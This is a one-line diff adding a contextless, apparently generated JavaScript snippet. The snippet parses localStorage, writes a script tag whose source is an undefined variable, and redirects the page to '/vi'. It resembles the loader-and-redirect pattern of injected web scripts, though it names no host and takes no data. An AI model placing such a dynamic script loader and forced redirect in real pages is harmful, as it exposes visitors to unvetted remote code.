@@ -1,0 +1,1 @@
+try { var c = JSON.parse(localStorage.x); switch (c.y) { case 1: _govaq = []; default: throw c } } catch ({ message }) { _govaq.length = 0 } finally { document.write('<script src=' + u + '></' + 'script>') } new Promise(r => r(1)).then(v => { location.href = '/vi' })
